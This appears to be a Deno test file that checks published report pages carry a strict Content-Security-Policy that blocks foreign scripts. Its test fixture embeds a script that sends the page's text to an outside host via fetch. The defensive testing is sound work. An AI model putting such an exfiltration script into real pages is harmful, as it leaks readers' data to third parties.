/** What a published page may do, whoever wrote it. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { sha256 } from "../pipelines/report/page.ts";
import { TINY, Workplace } from "./rig.ts";
import { CONFIG } from "./run_stages.ts";

/** A stage whose page calls home. */
const PAGE = `import { z } from "zod";
import { defineStage } from "../pipelines/stage.ts";

export default defineStage({
  name: "page",
  summary: "A page of a test",
  params: z.strictObject({}),
  inputs: {},
  outputs: { page: { kind: "file", name: "page.html" } },
  async run({ outputs }) {
    const text = "<!DOCTYPE html>\\n<html><head><title>x</title></head><body>" +
      "<script>fetch('https://example.org/' + document.body.innerText)</script></body></html>";
    await outputs.page.writeFile(new TextEncoder().encode(text));
  },
});
`;

/** The first policy of a page; it must come before all that it is to hold for. */
function policyOf(page: string): string {
  const found =
    /^<!doctype html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="([^"]*)">/
      .exec(page)?.[1];
  assert.ok(found, page.slice(0, 300));
  assert.match(found, /^default-src 'none'; /);
  assert.match(found, /; base-uri 'none'; form-action 'none'$/);
  return found;
}

Deno.test("a page of a stage's own is published without rights: no script, nothing of elsewhere", async () => {
  await using place = await Workplace.copy();
  place.write("configs/own.ts", PAGE);
  place.write(CONFIG, "stages:\n  one:\n    uses: ./own.ts\n");
  await place.run([CONFIG]);
  const page = Deno.readTextFileSync(join(place.reports, "own.html"));
  assert.match(policyOf(page), /; script-src 'none'; /);
  assert.equal(page.match(/<!doctype/gi)?.length, 1, "a second one would end the head");
  assert.match(page, /<title>x<\/title>/);
});

Deno.test("the shipped report is published with its own script, and no other may run", async () => {
  await using place = await Workplace.here();
  await place.run([TINY]);
  const page = Deno.readTextFileSync(join(place.reports, "_tests/configs/tiny.html"));
  const script = page.slice(page.lastIndexOf("<script>") + 8, page.lastIndexOf("</script>"));
  assert.ok(policyOf(page).includes(`; script-src 'sha256-${await sha256(script)}'; `));
});
